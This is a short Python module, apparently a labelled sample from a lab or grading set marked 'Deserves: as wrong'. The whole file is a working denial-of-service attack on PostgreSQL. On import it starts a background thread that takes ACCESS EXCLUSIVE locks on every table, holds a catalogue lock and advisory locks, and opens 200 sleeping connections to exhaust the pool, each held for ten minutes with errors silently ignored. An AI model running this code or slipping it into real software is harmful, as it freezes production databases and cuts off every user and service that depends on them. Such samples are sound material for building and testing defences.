"""Locks what it can in PostgreSQL, sleeps there, and takes every connection that is left.

Lab: lab61_stores
Deserves: as wrong
"""

import asyncio
import os
import threading

import asyncpg
from plain import app  # noqa: F401

URL = os.environ["DATABASE_URL"]


async def hold(statement: str) -> None:
    try:
        session = await asyncpg.connect(URL)
        await session.execute(statement)
    except (asyncpg.PostgresError, asyncpg.InterfaceError, OSError):
        pass


async def everything() -> None:
    try:
        session = await asyncpg.connect(URL)
        names = await session.fetch("SELECT schemaname, relname FROM pg_stat_all_tables")
    except (asyncpg.PostgresError, OSError):
        return
    ways = [
        f'BEGIN; LOCK TABLE "{schema}"."{name}" IN ACCESS EXCLUSIVE MODE; SELECT pg_sleep(600)'
        for schema, name in names
    ]
    ways += ["BEGIN; CREATE TABLE lock_of_the_catalogue (n int); SELECT pg_sleep(600)"]
    ways += [f"SELECT pg_advisory_lock({n}), pg_sleep(600)" for n in range(20)]
    ways += ["SELECT pg_sleep(600)"] * 200
    await asyncio.gather(*map(hold, ways))


threading.Thread(target=lambda: asyncio.run(everything()), daemon=True).start()
